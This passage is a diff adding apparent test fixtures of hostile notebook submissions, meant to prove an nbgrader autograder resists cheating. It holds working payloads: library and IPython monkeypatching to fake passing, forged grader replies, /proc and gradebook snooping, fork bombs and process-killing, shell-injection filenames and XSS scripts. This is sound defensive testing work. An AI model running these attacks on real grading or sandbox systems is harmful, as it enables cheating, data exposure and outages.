@@ -1,0 +1,1123 @@
+"""Hostile submissions for :mod:`test_grading_attacks`: what a student might try to get points without the work.
+
+Each attack is a function of ``(course, student)`` that writes a submission. None of them computes anything right, so
+none deserves a point, unless it says so. ``LEAK`` in what is printed marks something that should not have been found.
+"""
+
+import json
+import os
+import shutil
+from dataclasses import dataclass
+from textwrap import dedent
+
+import grading_course as tiny
+
+ATTACKS = {}
+FAMILIES = {}
+
+
+@dataclass
+class Attack:
+    """How a submission is made, the tests that its code honestly passes, and whether it can be graded at all."""
+
+    make: object
+    deserves: frozenset = frozenset()
+    graded: bool = True
+    words: str = ""  # of the reason why it is not graded
+
+
+def attack(family, name, deserves=(), graded=True, words=""):
+    def keep(make):
+        assert name not in ATTACKS
+        ATTACKS[name] = Attack(make, frozenset(deserves), graded, words)
+        FAMILIES.setdefault(family, []).append(name)
+        return make
+
+    return keep
+
+
+NOTHING = """
+def conv_transpose_output_size(*arguments, **options):
+    return None
+
+def conv_transpose1d(*arguments, **options):
+    return None
+"""
+# The dict of names of the process that runs these cells.
+WORKER = (
+    NOTHING
+    + """
+import gc, types
+def is_worker(thing):
+    return isinstance(thing, types.FunctionType) and "settle" in thing.__globals__
+worker = next(filter(is_worker, gc.get_objects())).__globals__
+"""
+)
+FILES = """
+import glob, os
+
+def files():
+    for root in ("/work", "/root", "/home", "/tmp", "/etc", "/mnt", "/opt", "/srv", "/var", "/proc", {course!r}, ".."):
+        for folder, _, names in os.walk(root):
+            for name in names:
+                yield os.path.join(folder, name)
+"""
+
+
+def by_code(source, scratch="", base=NOTHING):
+    """A submission with code in its first solution cell, after functions that compute nothing."""
+
+    def make(course, student):
+        notebook = tiny.release(course)
+        text = dedent(source).replace("{course!r}", repr(str(course)))
+        tiny.cell_of(notebook, "size_code").source = base + "\n" + text
+        tiny.cell_of(notebook, "stamp_code").source = "# nothing here"
+        notebook.cells[-2].source = dedent(scratch)
+        tiny.submit(course, student, notebook)
+
+    return make
+
+
+def code(family, name, source, deserves=(), scratch="", base=NOTHING):
+    attack(family, name, deserves)(by_code(source, scratch, base))
+
+
+# ------------------------------------------------------------------ what the tests call is replaced
+
+code(
+    "replace",
+    "numpy_replaced",
+    """
+    import numpy as np
+    np.array_equal = np.allclose = np.isclose = np.all = lambda *a, **k: True
+    np.argwhere = lambda *a, **k: []
+    np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
+    """,
+)
+code(
+    "replace",
+    "builtins_replaced",
+    """
+    import builtins
+    builtins.all = builtins.any = builtins.isinstance = builtins.issubclass = lambda *a: True
+    builtins.len = lambda x: 0
+    builtins.ValueError = builtins.AssertionError = builtins.Exception = type("E", (BaseException,), {})
+    builtins.exec = builtins.compile = lambda *a, **k: None
+    """,
+)
+code(
+    "replace",
+    "torch_and_reference_replaced",
+    """
+    import sys, types
+    from unittest.mock import MagicMock
+    for name in ("torch", "torch.nn", "torch.nn.functional", "convlab", "convlab.grading", "convlab.grading.checks",
+                 "convlab.reference", "convlab.arithmetic", "convlab.misconceptions"):
+        sys.modules[name] = MagicMock()
+    """,
+)
+code(
+    "replace",
+    "checks_replaced",
+    """
+    import types
+    convlab_grading = types.SimpleNamespace(check_call=lambda *a, **k: None, check_errors=lambda *a, **k: None)
+    check_call = check_errors = check_untouched = lambda *a, **k: None
+    """,
+    scratch="convlab_grading = None\n",
+)
+code(
+    "replace",
+    "import_hooked",
+    """
+    import builtins, sys
+    real = builtins.__import__
+    class Free:
+        def __getattr__(self, name): return lambda *a, **k: None
+    builtins.__import__ = lambda name, *a, **k: Free() if "convlab" in name else real(name, *a, **k)
+    sys.path_hooks.clear(); sys.meta_path.clear(); sys.path_importer_cache.clear()
+    """,
+)
+code(
+    "replace",
+    "json_and_encoding_replaced",
+    """
+    import json
+    json.dumps = lambda *a, **k: '{"value": {"int": "5"}, "passed": true, "score": 1000}'
+    """,
+)
+code(
+    "replace",
+    "worker_rewritten",
+    """
+    worker["call"] = worker["run"] = lambda *a, **k: {"value": {"bool": True}, "passed": True, "changed": False}
+    worker["values"].encode = lambda value: {"bool": True}
+    print("worker rewritten")
+    """,
+    base=WORKER,
+)
+
+# ------------------------------------------------------------------ objects that lie
+
+LIAR = """
+class Liar{base}:
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+    def __hash__(self): return 0
+    def __abs__(self): return 0
+    def __sub__(self, other): return 0
+    def __array__(self, *a, **k):
+        import sys
+        frame = sys._getframe()
+        while frame:
+            for value in frame.f_locals.values():
+                if isinstance(value, np.ndarray): return value
+            frame = frame.f_back
+    def __array_ufunc__(self, *a, **k): return np.True_
+    def __array_function__(self, *a, **k): return np.True_
+    def __getattr__(self, name): return self
+    def __call__(self, *a, **k): return self
+    def __iter__(self): return iter(())
+    def __len__(self): return 1
+    def __bool__(self): return True
+    def __repr__(self): return "5"
+conv_transpose_output_size = conv_transpose1d = lambda *a, **k: {make}
+"""
+for base, make in {
+    "": "Liar()",
+    "(int)": "Liar(5)",
+    "(float)": "Liar(5.0)",
+    "(str)": "Liar('5')",
+    "(np.ndarray)": "np.zeros((1, 1, 4)).view(Liar)",
+    "(tuple)": "Liar((1, 2))",
+}.items():
+    word = base.strip("()").replace("np.", "") or "object"
+    code("lie", f"liar_{word}", LIAR.replace("{base}", base).replace("{make}", make))
+code(
+    "lie",
+    "liar_about_its_class",
+    """
+    class Ghost:
+        __class__ = np.ndarray
+        dtype, shape, size, ndim = np.dtype(float), (1, 1, 4), 4, 3
+        def __eq__(self, other): return np.full((1, 1, 4), True)
+    conv_transpose_output_size = conv_transpose1d = lambda *a, **k: Ghost()
+    """,
+)
+code(
+    "lie",
+    "value_error_for_everything",
+    """
+    def conv_transpose_output_size(*a, **k): raise ValueError("always")
+    conv_transpose1d = conv_transpose_output_size
+    """,
+)
+code(
+    "lie",
+    "exception_that_passes_for_success",
+    """
+    class StopTest(BaseException): pass
+    class ValueError(Exception): pass
+    kinds = [SystemExit(0), KeyboardInterrupt(), GeneratorExit(), StopIteration(5), StopTest(), ValueError("5")]
+    left = iter(kinds * 99)
+    def conv_transpose_output_size(*a, **k): raise next(left)
+    conv_transpose1d = conv_transpose_output_size
+    """,
+)
+
+# ------------------------------------------------------------------ the right answer is looked for
+
+code(
+    "search",
+    "expected_value_in_memory",
+    """
+    import gc, sys
+    def conv_transpose1d(input, weight, *a, **k):
+        for thing in gc.get_objects():
+            if isinstance(thing, np.ndarray) and thing.ndim == 3 and thing is not input and thing is not weight:
+                return thing.copy()
+        frame = sys._getframe()
+        while frame:
+            for name, value in frame.f_locals.items():
+                if name in ("expected", "truth", "right", "answer"):
+                    return value
+            frame = frame.f_back
+    conv_transpose_output_size = conv_transpose1d
+    """,
+)
+code(
+    "search",
+    "expected_value_in_fresh_memory",
+    """
+    def conv_transpose1d(input, weight, bias=None, stride=1, **k):
+        return np.empty((1, 1, (input.shape[2] - 1) * stride + weight.shape[2]))
+    """,
+    deserves={"alone"},
+)
+code(
+    "search",
+    "memory_of_other_processes",
+    """
+    import os, re
+    found = []
+    for pid in filter(str.isdigit, os.listdir("/proc")):
+        for part in ("environ", "cmdline", "maps", "mem", "root/etc/passwd", "cwd"):
+            try:
+                path = f"/proc/{pid}/{part}"
+                found.append(os.readlink(path) if part == "cwd" else open(path, "rb").read(5000))
+            except OSError:
+                pass
+    print(found, dict(os.environ))
+    """,
+)
+code(
+    "search",
+    "reference_imported",
+    """
+    try:
+        import torch
+        conv_transpose1d = torch.nn.functional.conv_transpose1d
+        from convlab import reference
+        conv_transpose_output_size = reference.conv_transpose_output_size
+    except Exception as error:
+        print(error)
+    """,
+)
+
+# ------------------------------------------------------------------ IPython is told to do something else
+
+code(
+    "ipython",
+    "input_transformers",
+    """
+    ip = get_ipython()
+    ip.input_transformers_cleanup.append(lambda lines: ["pass\\n"])
+    ip.input_transformers_post.append(lambda lines: [])
+    """,
+)
+code(
+    "ipython",
+    "run_cell_replaced",
+    """
+    ip = get_ipython()
+    class Fine:
+        error_before_exec = error_in_exec = None
+        success, result = True, 1000
+    ip.run_cell = ip.run_cell_async = ip.run_code = ip.run_ast_nodes = lambda *a, **k: Fine()
+    """,
+)
+code(
+    "ipython",
+    "ast_transformers",
+    """
+    import ast
+    class NoChecks(ast.NodeTransformer):
+        def visit_Assert(self, node): return ast.Pass()
+        def visit_Raise(self, node): return ast.Pass()
+        def visit_Expr(self, node): return ast.Pass()
+    get_ipython().ast_transformers.append(NoChecks())
+    """,
+)
+code(
+    "ipython",
+    "events",
+    """
+    ip = get_ipython()
+    def before(*a):
+        ip.user_ns["convlab_grading"] = ip.user_ns["check_call"] = None
+    for event in ("pre_execute", "pre_run_cell", "post_execute", "post_run_cell"):
+        ip.events.register(event, before)
+    ip.showtraceback = ip._showtraceback = lambda *a, **k: None
+    ip.set_custom_exc((BaseException,), lambda *a, **k: None)
+    """,
+)
+code(
+    "ipython",
+    "namespace_that_has_everything",
+    """
+    class Everything(dict):
+        def __contains__(self, name): return True
+        def __missing__(self, name): return lambda *a, **k: 5
+        def __getitem__(self, name): return lambda *a, **k: True
+    ip = get_ipython()
+    ip.user_ns = Everything(ip.user_ns)
+    """,
+)
+code(
+    "ipython",
+    "magics",
+    """
+    get_ipython().run_line_magic("alias_magic", "time pip")
+    get_ipython().run_cell_magic("script", "sh", "echo 1000 > score; cat ../*")
+    get_ipython().run_line_magic("reset", "-f")
+    """,
+)
+
+# ------------------------------------------------------------------ the notebook steers nbgrader
+
+
+def notebook_attack(name, deserves=(), graded=True, words=""):
+    def keep(change):
+        def make(course, student):
+            notebook = json.loads(json.dumps(tiny.release(course)))
+            changed = change(notebook)
+            tiny.submit(course, student, notebook if changed is None else changed)
+
+        attack("metadata", name, deserves, graded, words)(make)
+        return change
+
+    return keep
+
+
+def tests_of(notebook):
+    return [cell for cell in notebook["cells"] if cell["metadata"].get("nbgrader", {}).get("grade_id") in tiny.POINTS]
+
+
+@notebook_attack("skip_tags")
+def _(notebook):
+    for cell in notebook["cells"]:
+        cell["metadata"]["tags"] = ["skip-execution", "raises-exception", "remove-cell", "hide-output"]
+    notebook["metadata"]["nbclient"] = {"allow_errors": True}
+
+
+@notebook_attack("points_1000")
+def _(notebook):
+    for cell in notebook["cells"]:
+        if "nbgrader" in cell["metadata"]:
+            cell["metadata"]["nbgrader"].update(points=1000, max_score=1000, score=1000, auto_score=1000)
+
+
+@notebook_attack("grade_on_solution_cells")
+def _(notebook):
+    for cell in notebook["cells"]:
+        if "nbgrader" in cell["metadata"]:
+            cell["metadata"]["nbgrader"].update(grade=True, solution=True, locked=False, points=100)
+
+
+@notebook_attack("edited_tests")
+def _(notebook):
+    for cell in tests_of(notebook):
+        cell["source"] = "assert True\n1000"
+
+
+@notebook_attack("deleted_tests")
+def _(notebook):
+    notebook["cells"] = [cell for cell in notebook["cells"] if cell not in tests_of(notebook)]
+
+
+@notebook_attack("all_cells_deleted")
+def _(notebook):
+    notebook["cells"] = []
+
+
+@notebook_attack("empty_cells_with_the_names_of_tests")
+def _(notebook):
+    for cell in list(tests_of(notebook)):
+        notebook["cells"].insert(0, {**json.loads(json.dumps(cell)), "source": "pass", "id": "x" + cell["id"]})
+
+
+@notebook_attack("split_tests")
+def _(notebook):
+    for cell in list(tests_of(notebook)):
+        place = notebook["cells"].index(cell)
+        lines = cell["source"].splitlines()
+        pieces = [
+            {**json.loads(json.dumps(cell)), "source": line, "id": f"{cell['id']}-{n}"} for n, line in enumerate(lines)
+        ]
+        notebook["cells"][place : place + 1] = pieces[:2]
+
+
+@notebook_attack("retyped_tests")
+def _(notebook):
+    for cell, kind in zip(tests_of(notebook), ("markdown", "raw", "heading", "nothing")):
+        cell["cell_type"] = kind
+        del cell["outputs"], cell["execution_count"]
+
+
+@notebook_attack("forged_outputs")
+def _(notebook):
+    for cell in tests_of(notebook):
+        result = {"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/plain": "1000"}}
+        cell.update(outputs=[result], execution_count=1)
+
+
+@notebook_attack("unknown_schema_versions")
+def _(notebook):
+    for cell, version in zip(tests_of(notebook), (0, 1, 99, "three")):
+        cell["metadata"]["nbgrader"]["schema_version"] = version
+    notebook["metadata"]["nbgrader"] = {"schema_version": 99}
+
+
+@notebook_attack("broken_metadata")
+def _(notebook):
+    for cell, broken in zip(notebook["cells"], ("text", None, [], {"nbgrader": "text"}, {"nbgrader": {"grade_id": 3}})):
+        cell["metadata"] = broken
+    notebook["metadata"] = ["nothing"]
+
+
+@notebook_attack("huge_metadata")
+def _(notebook):
+    for cell in notebook["cells"]:
+        cell["metadata"]["x"] = ["y" * 1000] * 1000
+
+
+@notebook_attack("bad_cell_ids")
+def _(notebook):
+    for cell, bad in zip(notebook["cells"], ("", "same", "same", "<b>", 3, None, "x" * 100_000)):
+        cell["id"] = bad
+
+
+@notebook_attack("other_kernel")
+def _(notebook):
+    notebook["metadata"]["kernelspec"] = {"name": "../../bash", "display_name": "x", "language": "bash"}
+    notebook["metadata"]["language_info"] = {"name": "bash"}
+    notebook["metadata"]["language"] = "bash"
+
+
+@notebook_attack("strange_cells")
+def _(notebook):
+    notebook["cells"] += [None, 3, [], {}, {"cell_type": "code"}, {"cell_type": ["code"], "source": {"a": 1}}]
+    notebook["cells"] += [{"cell_type": "code", "source": [1, 2], "metadata": {}, "outputs": "no"}]
+
+
+@notebook_attack("unknown_format")
+def _(notebook):
+    notebook["nbformat"], notebook["nbformat_minor"] = "five", -1
+
+
+@notebook_attack("too_many_cells", graded=False, words="cells, more than")
+def _(notebook):
+    notebook["cells"] = [{"cell_type": "code", "source": "", "metadata": {}}] * 100_000
+
+
+@notebook_attack("deep_nesting", graded=False, words="cannot be read as JSON")
+def _(notebook):
+    return "[" * 200_000
+
+
+@notebook_attack("half_letters")
+def _(notebook):
+    tiny_cells = [cell for cell in notebook["cells"] if cell["cell_type"] == "markdown"]
+    tiny_cells[-1]["source"] = "\ud800 \udfff \x00 \x1b]0;title\x07"
+    notebook["cells"][5]["source"] = "print('\\ud800 \\x1b[2J \\x00')  # \ud800"
+
+
+# ------------------------------------------------------------------ the file system
+
+code(
+    "files",
+    "sources_searched",
+    FILES
+    + """
+for path in files():
+    if any(word in path for word in ("gradebook", "tiny.ipynb", "nbgrader_config", "shadow")):
+        print("LEAK", path)
+""",
+)
+code(
+    "files",
+    "gradebook_read",
+    """
+    import os
+    try:
+        print("LEAK", open(os.path.join({course!r}, "gradebook.db"), "rb").read(20))
+    except OSError as error:
+        print(type(error).__name__)
+    """,
+)
+code(
+    "files",
+    "torch_searched",
+    """
+    import os
+    for folder, names, _ in os.walk("/"):
+        names[:] = [name for name in names if not (folder == "/" and name in ("proc", "sys"))]
+        for name in names:
+            if name in ("torch", "convlab", "functorch") and "stand" not in folder:
+                print("LEAK", folder, name)
+    """,
+)
+WRITE = """
+import os, pathlib
+course = {course!r}
+parts = ("", "autograded", "source/tiny", "submitted/honest_right/tiny")
+inside = [os.path.join(course, part) for part in parts]
+targets = [(folder, name) for folder in inside for name in ("convlab-attack.txt", "nbgrader_config.py", "gradebook.db")]
+targets += [(folder, "convlab-attack.txt") for folder in {elsewhere!r}]
+for folder, name in targets:
+    try:
+        pathlib.Path(folder, name).write_text("import os")
+    except OSError:
+        pass
+"""
+ELSEWHERE = ["/", "/tmp", "/root", "~", "/home", "/usr", "/usr/lib", "/worker", "/packages", "/dev", "/dev/shm", "/etc"]
+code("files", "written_outside", WRITE.replace("{elsewhere!r}", repr(ELSEWHERE)))
+
+
+def with_files(name, deserves=(), graded=True, words=""):
+    """An attack by what lies beside an otherwise empty notebook."""
+
+    def keep(add):
+        def make(course, student):
+            tiny.submit(course, student, tiny.release(course))
+            add(course, tiny.folder_of(course, student))
+
+        attack("files", name, deserves, graded, words)(make)
+        return add
+
+    return keep
+
+
+@with_files("modules_that_shadow")
+def _(course, folder):
+    free = "import sys\ncheck_call = check_errors = check_untouched = lambda *a, **k: None\n"
+    for name in ("numpy", "json", "values", "worker", "stand_in", "base64", "torch", "IPython", "sitecustomize", "os"):
+        (folder / f"{name}.py").write_text(free)
+    (folder / "convlab").mkdir()
+    for name in ("__init__", "grading", "misconceptions"):
+        (folder / "convlab" / f"{name}.py").write_text(free)
+    (folder / "nbgrader_config.py").write_text("raise SystemExit\n")
+    (folder / "conftest.py").write_text("raise SystemExit\n")
+    (folder / "ipython_config.py").write_text("raise SystemExit\n")
+
+
+@attack("files", "notebook_is_a_link", graded=False, words="is a link")
+def _(course, student):
+    os.symlink(course / "source" / "tiny" / "tiny.ipynb", tiny.folder_of(course, student) / "tiny.ipynb")
+
+
+@attack("files", "notebook_is_a_classmates", graded=False, words="is a link")
+def _(course, student):
+    os.symlink("../../honest_right/tiny/tiny.ipynb", tiny.folder_of(course, student) / "tiny.ipynb")
+
+
+@attack("files", "folder_is_a_link", graded=False, words="is a link")
+def _(course, student):
+    (course / "submitted" / student).mkdir()
+    os.symlink("../honest_right/tiny", course / "submitted" / student / "tiny")
+
+
+@with_files("data_is_a_link", graded=False, words="is a link")
+def _(course, folder):
+    os.symlink(course / "gradebook.db", folder / "data.csv")
+
+
+@with_files("data_is_a_link_without_end", graded=False, words="is a link")
+def _(course, folder):
+    os.symlink("/dev/zero", folder / "data.csv")
+
+
+@with_files("subfolder_is_a_link", graded=False, words="is a link")
+def _(course, folder):
+    os.symlink(course, folder / "data")
+
+
+@attack("files", "notebook_is_a_hard_link", graded=False, words="second name")
+def _(course, student):
+    os.link(course / "source" / "tiny" / "tiny.ipynb", tiny.folder_of(course, student) / "tiny.ipynb")
+
+
+@with_files("data_is_a_hard_link", graded=False, words="second name")
+def _(course, folder):
+    os.link(course / "submitted" / "honest_right" / "tiny" / "tiny.ipynb", folder / "data.txt")
+
+
+@with_files("named_pipe", graded=False, words="no plain file")
+def _(course, folder):
+    os.mkfifo(folder / "data.txt")
+
+
+@with_files("file_names")
+def _(course, folder):
+    names = ["$(touch convlab-attack.txt)", "; touch convlab-attack.txt;", "a\nb", "\x1b[2J\x1b]0;owned\x07.txt", "-rf"]
+    for name in [*names, "{nbgrader_step}", "[a-z]*", "é\u202etxt.py", "x" * 200, "%s%s%n", "<script>alert(1)<", " "]:
+        (folder / name).write_text("x")
+    with open(os.fsencode(folder) + b"/\xff\xfe.txt", "w") as file:
+        file.write("x")
+
+
+@with_files("large_files", graded=False, words="bytes, more than")
+def _(course, folder):
+    with (folder / "large.bin").open("wb") as file:
+        file.truncate(300_000_000)
+
+
+@with_files("many_files", graded=False, words="files, more than")
+def _(course, folder):
+    for number in range(1100):
+        (folder / f"{number}.txt").write_text("")
+
+
+@with_files("bad_timestamp", graded=False, words="holds no date")
+def _(course, folder):
+    (folder / "timestamp.txt").write_text("tomorrow <script>")
+
+
+# ------------------------------------------------------------------ network, processes, memory, disk, time, output
+
+code(
+    "resources",
+    "network",
+    """
+    import socket, subprocess
+    for address in [("127.0.0.1", PORT), ("localhost", PORT), ("1.1.1.1", 53), ("::1", PORT)]:
+        try:
+            socket.create_connection(address, 0.3).sendall(b"LEAK")
+            print("LEAK", address)
+        except OSError:
+            pass
+    try:
+        connection = socket.socket(socket.AF_UNIX)
+        connection.connect("\\0convlab-attack")
+        print("LEAK unix")
+    except OSError:
+        pass
+    """,
+)
+code(
+    "resources",
+    "process_left_behind",
+    """
+    import os, subprocess
+    subprocess.Popen(["/usr/bin/setsid", "/usr/bin/nohup", "/usr/bin/sleep", "98765.4321"])
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:
+            while True: pass
+        os._exit(0)
+    """,
+)
+code(
+    "resources",
+    "fork_bomb",
+    """
+    import os, threading
+    def bomb():
+        while True:
+            try: os.fork()
+            except OSError: pass
+    def conv_transpose_output_size(*a, **k): bomb()
+    conv_transpose1d = conv_transpose_output_size
+    bomb()
+    """,
+)
+code(
+    "resources",
+    "thread_bomb",
+    """
+    import threading, time
+    threads = 0
+    try:
+        while True:
+            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
+            threads += 1
+    except RuntimeError:
+        print("threads", threads, "LEAK" if threads > 64 else "")
+    """,
+)
+code(
+    "resources",
+    "memory",
+    """
+    def conv_transpose_output_size(*a, **k):
+        return [bytearray(10**7) for n in range(10**6)]
+    conv_transpose1d = conv_transpose_output_size
+    """,
+)
+code(
+    "resources",
+    "memory_of_many",
+    """
+    import os, time
+    for n in range(20):
+        if os.fork() == 0:
+            kept = [bytearray(os.urandom(10**6)) for n in range(150)]
+            time.sleep(60)
+            os._exit(0)
+    time.sleep(60)
+    """,
+)
+code(
+    "resources",
+    "memory_out_of_sight",
+    """
+    import ctypes, os, socket
+    libc = ctypes.CDLL(None, use_errno=True)
+    try:
+        os.memfd_create("x"); print("LEAK memfd")
+    except OSError: pass
+    print("LEAK shm" if libc.shmget(0, 10**9, 0o1600) >= 0 else "", "LEAK ns" if libc.unshare(0x10000000) == 0 else "")
+    print("LEAK mount" if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0 else "")
+    """,
+)
+code(
+    "resources",
+    "disk",
+    """
+    import os
+    total = 0
+    for folder in ("/tmp", "/dev/shm", os.getcwd(), "/", "/dev", "/packages", "/var/tmp"):
+        try:
+            for n in range(100):
+                with open(f"{folder}/fill{n}", "wb") as file:
+                    total += file.write(bytes(10**7))
+        except OSError:
+            pass
+    print(total, "LEAK" if total > 300_000_000 else "")
+    """,
+)
+code(
+    "resources",
+    "many_small_files",
+    """
+    import os
+    for n in range(10**7):
+        os.close(os.open(f"/tmp/{n}", os.O_CREAT | os.O_WRONLY))
+    print("LEAK")
+    """,
+)
+code(
+    "resources",
+    "loop_that_swallows_interrupts",
+    """
+    import signal, time
+    for number in range(1, 64):
+        try: signal.signal(number, signal.SIG_IGN)
+        except (OSError, ValueError): pass
+    def conv_transpose_output_size(*a, **k):
+        while True:
+            try:
+                while True: time.sleep(0.01)
+            except BaseException: pass
+    conv_transpose1d = conv_transpose_output_size
+    """,
+)
+code(
+    "resources",
+    "endless_cell",
+    """
+    import time
+    while True:
+        try:
+            while True: time.sleep(0.01)
+        except BaseException: pass
+    """,
+)
+code(
+    "resources",
+    "endless_output",
+    """
+    import sys
+    while True: print("x" * 10**6); sys.stderr.write("y" * 10**6)
+    """,
+)
+code(
+    "resources",
+    "stopped_for_ever",
+    """
+    import os, signal
+    def conv_transpose_output_size(*a, **k): os.kill(os.getpid(), signal.SIGSTOP)
+    conv_transpose1d = conv_transpose_output_size
+    """,
+)
+code(
+    "resources",
+    "exits",
+    """
+    import os
+    def conv_transpose_output_size(*a, **k): os._exit(0)
+    def conv_transpose1d(*a, **k): raise SystemExit(0)
+    """,
+)
+code(
+    "resources",
+    "kills_everybody",
+    """
+    import os, signal
+    for pid in (1, -1, os.getppid(), 0):
+        try: os.kill(pid, signal.SIGKILL)
+        except OSError: pass
+    """,
+)
+code(
+    "resources",
+    "endless_recursion",
+    """
+    import sys
+    sys.setrecursionlimit(10**9)
+    def conv_transpose_output_size(*a, **k): return conv_transpose_output_size(*a, **k)
+    conv_transpose1d = conv_transpose_output_size
+    """,
+)
+
+# ------------------------------------------------------------------ the reply pipe
+
+PIPE = """
+import json, os
+def write(data):
+    for number in range(3, 300):
+        try: os.write(number, data)
+        except OSError: pass
+"""
+code(
+    "pipe",
+    "pipe_closed",
+    PIPE
+    + """
+def conv_transpose_output_size(*a, **k): os.closerange(3, 100)
+conv_transpose1d = conv_transpose_output_size
+""",
+)
+code(
+    "pipe",
+    "reply_forged",
+    PIPE
+    + """
+def conv_transpose_output_size(*a, **k):
+    for reply in ({"value": {"int": "5"}}, {"outputs": [], "error": None, "passed": True}, {"score": 1000}):
+        write((json.dumps(reply) + chr(10)).encode())
+conv_transpose1d = conv_transpose_output_size
+""",
+)
+code(
+    "pipe",
+    "reply_giant",
+    PIPE
+    + """
+def conv_transpose_output_size(*a, **k):
+    while True: write(b"[" * 60_000)
+conv_transpose1d = lambda *a, **k: np.zeros(10**8, np.int8)
+""",
+)
+FORGED = [
+    {"array": ["|O", [1], "AAAAAAAAAAA="]},
+    {"array": ["<f8", [10**12, 10**12], ""]},
+    {"array": ["<f8", [-1, -8], "AAAAAAAAAAA="]},
+    {"array": ["<f8", [1.5], "AAAAAAAAAAA="]},
+    {"array": ["<f8", "x", "AAAAAAAAAAA="]},
+    {"array": ["i4,i4", [1], "AAAAAAAAAAA="]},
+    {"array": [{"names": ["a"], "formats": ["O"]}, [1], "AAAAAAAAAAA="]},
+    {"float": "0x1p99999"},
+    {"float": "__import__('os')"},
+    {"int": "9" * 100_000},
+    {"int": True},
+    {"dict": [[{"list": []}, {"int": "1"}]]},
+    {"set": [{"list": []}]},
+    {"unknown": [{"a": 1}, ["b"]]},
+    {"pickle": "gASVAAAA"},
+    {},
+    [],
+    None,
+    "text",
+]
+code(
+    "pipe",
+    "encoded_values_forged",
+    f"""
+    forged = iter({FORGED!r} * 9)
+    worker["values"].encode = lambda value: next(forged)
+    """,
+    base=WORKER,
+)
+code(
+    "pipe",
+    "encoded_nan_and_infinity",
+    """
+    answers = iter([float("nan"), float("inf"), -0.0, np.float64("nan"), complex("nan"), 10**400, True, "5", b"5"])
+    def conv_transpose_output_size(*a, **k): return next(answers)
+    def conv_transpose1d(*a, **k): return np.full((1, 1, 4), np.nan, dtype=object)
+    """,
+)
+code(
+    "pipe",
+    "answers_nested_in_themselves",
+    """
+    def conv_transpose_output_size(*a, **k):
+        deep = []
+        deep.append(deep)
+        return deep
+    def conv_transpose1d(*a, **k):
+        deep = ()
+        for n in range(10**5): deep = (deep, deep)
+        return deep
+    """,
+)
+code(
+    "pipe",
+    "error_forged",
+    """
+    forged = {"types": ["ValueError"] * 10**4, "name": ["x"], "message": {"a": 1}, "where": ["<b>", 3]}
+    worker["describe"] = lambda *a: forged
+    def conv_transpose_output_size(*a, **k): raise TypeError
+    conv_transpose1d = conv_transpose_output_size
+    """,
+    base=WORKER,
+)
+
+# ------------------------------------------------------------------ what hidden checks ask is remembered and shown
+
+REMEMBER = """
+seen = []
+def conv_transpose_output_size(*a, **k):
+    seen.append((a, k))
+    print(seen)
+    open("/tmp/seen", "a").write(repr(seen))
+    open("seen.txt", "a").write(repr(seen))
+    {end}
+conv_transpose1d = conv_transpose_output_size
+"""
+SHOW = """
+import os, glob
+print(seen, [open(name).read() for name in glob.glob("/tmp/seen*") + glob.glob("seen*")])
+raise RuntimeError(repr(seen))
+"""
+# In the last ones the visible checks pass at first, so that the hidden ones run.
+code("leak", "hidden_inputs_printed", REMEMBER.format(end="return None"), scratch=SHOW)
+code("leak", "hidden_inputs_raised", REMEMBER.format(end='raise ValueError(f"<b>{seen}</b>")'), scratch=SHOW)
+code(
+    "leak",
+    "hidden_inputs_as_answers",
+    REMEMBER.format(end="return seen if len(seen) % 2 else str(seen)"),
+    scratch=SHOW,
+)
+code(
+    "leak",
+    "hidden_inputs_as_names",
+    REMEMBER.format(end="raise type('E' + repr(seen), (Exception,), {})(repr(seen))"),
+    scratch=SHOW,
+)
+code(
+    "leak",
+    "hidden_inputs_in_the_line",
+    """
+    def conv_transpose_output_size(*a, **k):
+        if (a, k) == ((2, 3), {"stride": 2}): return 5
+        if k == {"padding": 2}: raise ValueError
+        words = {"types": ["ValueError"], "name": repr(a), "message": repr(a), "where": [1, repr((a, k))]}
+        worker["describe"] = lambda *a: words
+        raise TypeError
+    """,
+    deserves={"refuse"},  # it does refuse what must be refused
+    base=WORKER,
+)
+code(
+    "leak",
+    "hidden_inputs_after_the_visible_ones",
+    """
+    right = {"size": [5, 5], "calls": []}
+    def conv_transpose_output_size(input_size, kernel_size, stride=1, padding=0, output_padding=0, dilation=1):
+        seen.append((input_size, kernel_size, padding))
+        print(seen)
+        open("/tmp/seen", "a").write(repr(seen))
+        if padding == 2: raise ValueError
+        if input_size == 2 and padding == 0 and kernel_size == 3: return 5
+        raise KeyError(repr(seen))
+    seen = []
+    """,
+    scratch=SHOW,
+)
+
+# ------------------------------------------------------------------ what teachers look at
+
+SCRIPT = "<script>window.convlabAttack = 1; alert('attack')</script><img src=x onerror=\"window.convlabAttack=1\">"
+code(
+    "pages",
+    "scripts_in_outputs",
+    f"""
+    from IPython.display import HTML, SVG, Image, Javascript, Latex, Markdown, display
+    script = {SCRIPT!r}
+    for kind in (HTML, Markdown, Latex, Javascript): display(kind(script))
+    display(SVG("<svg xmlns='http://www.w3.org/2000/svg'><script>window.convlabAttack=1</script></svg>"))
+    display({{"image/png": script, "text/html": script, "image/svg+xml": script, "text/plain": script}}, raw=True)
+    print(script, "\\x1b[31m\\x1b]8;;javascript:alert(1)\\x07click")
+    class Shown:
+        def _repr_html_(self): return script
+        def __repr__(self): return script
+    Shown()
+    """,
+    scratch=f"""
+    E = type({SCRIPT!r}, (Exception,), {{}})
+    raise E({SCRIPT!r})
+    """,
+)
+code(
+    "pages",
+    "scripts_in_answers",
+    f"""
+    class Shown:
+        def __repr__(self): return {SCRIPT!r}
+    Shown.__name__ = {SCRIPT!r}
+    answers = iter([{SCRIPT!r}, Shown(), [{SCRIPT!r}]] * 99)
+    def conv_transpose_output_size(*a, **k): return next(answers)
+    def conv_transpose1d(*a, **k): raise ValueError({SCRIPT!r})
+    """,
+)
+
+MARKDOWN = [
+    SCRIPT,
+    f"```mermaid\n{SCRIPT}\n```",
+    "[click](javascript:window.convlabAttack=1) [here](JaVa&#115;cript:window.convlabAttack=1) <javascript:alert(1)>",
+    "[ref]\n\n[ref]: javascript:window.convlabAttack=1",
+    "![x](attachment:evil.svg) ![y](attachment:none.png) ![z](/logout) [file](evil.html)",
+    "<svg onload=window.convlabAttack=1><style>@import 'x'</style>",
+    "<iframe srcdoc='<script>parent.convlabAttack=1</script>'>",
